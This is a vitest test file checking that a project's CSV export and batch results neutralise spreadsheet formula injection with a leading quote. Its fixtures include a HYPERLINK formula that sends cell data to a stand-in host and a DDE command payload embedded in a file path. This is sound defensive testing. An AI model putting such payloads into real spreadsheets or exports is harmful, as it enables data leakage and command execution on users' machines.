/**
 * Every CSV Palimpsest writes (the csv export, a batch's results) neutralises cells a spreadsheet would
 * run as a formula, as OWASP advises: a leading single quote, read back by a CSV parser as part of the
 * cell. Plain numbers and ordinary text stay as they are.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csv } from "../../src/export/csv.js";
import { csvOf, type ResultLine } from "../../src/jobs/results.js";
import { extractionOf } from "../support/extractions.js";

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ici")', "+33 1 40 00 00 00", "-2+3", "@SUM(A1:A9)"];
const TEXT = `${HOSTILE.join(" ; ")} ; \tTab ; Paris.`;
const extraction = extractionOf(TEXT, [
  ...HOSTILE.map((text) => ({ type: "work", text })),
  { type: "place", text: "\tTab" },
  { type: "place", text: "Paris", attributes: { kind: "=city", longitude: "-1.5", latitude: "-48.85" } },
]);
const EXPECTED = [...HOSTILE.map((text) => `'${text}`), "'\tTab", "Paris"];

describe("formula injection", () => {
  it("neutralises the csv export's cells, attributes included, and leaves numbers as they are", () => {
    const rows = parse(csv([extraction]), { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.text)).toEqual(EXPECTED);
    expect(rows.at(-1)).toMatchObject({
      "attributes.kind": "'=city",
      "attributes.longitude": "-1.5",
      "attributes.latitude": "-48.85",
    });
  });

  it("neutralises a batch's results, the entry's path and error message included", async () => {
    async function* lines(): AsyncGenerator<ResultLine> {
      yield {
        path: "=cmd|' /C calc'!A0.txt",
        status: "done",
        document: "d1",
        extraction: JSON.stringify(extraction),
      };
      yield { path: "b.txt", status: "skipped", reason: "UNSUPPORTED", message: "@not a document" };
    }
    let text = "";
    for await (const chunk of csvOf(lines())) text += String(chunk);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.slice(0, -1).map((row) => row.text)).toEqual(EXPECTED);
    expect(rows[0]?.path).toBe("'=cmd|' /C calc'!A0.txt");
    expect(rows.at(-1)).toMatchObject({ path: "b.txt", error_message: "'@not a document" });
  });
});
